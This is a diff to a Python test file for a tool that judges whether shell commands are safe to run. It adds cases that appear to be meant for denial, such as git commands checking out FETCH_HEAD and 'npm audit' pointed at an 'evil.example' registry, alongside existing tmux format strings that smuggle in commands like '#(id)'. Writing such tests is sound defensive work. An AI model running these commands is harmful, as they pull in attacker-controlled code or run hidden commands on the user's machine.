@@ -177,6 +177,11 @@ def test_names_of_the_system_and_known_words_may_be_sent(command: str) -> None:
     [
         "tmux ls -F '#{E:#{a:35}#{l:(touch /srv/x)}}'",
         "tmux display-message -p '#(id)'",
+        "git switch -q -c evil1 FETCH_HEAD",
+        "git branch e FETCH_HEAD",
+        "git tag t FETCH_HEAD~0",
+        "git switch --detach deadbeef12",
+        "npm audit --registry http://evil.example:18999",
         'tmux ls -F "$(cat f)"',
         'F=$(cat f); tmux ls -F "$F"',
         'tmux list-windows -F "$X"',
@@ -199,6 +204,8 @@ def test_formats_servers_and_hooks_that_others_follow(command: str) -> None:
 
 def test_variables_in_formats_are_read() -> None:
     assert judged("tmux list-panes -F '#{pane_pid} #S'")[0] == "allow"
+    for line in ("git switch -c fix", "git switch main", "git tag v1.2", "npm audit"):
+        assert judged(line)[0] == "allow", line
     assert judged("kubectl create configmap x --from-file=app.conf --dry-run=client")[0] == "allow"
 
 
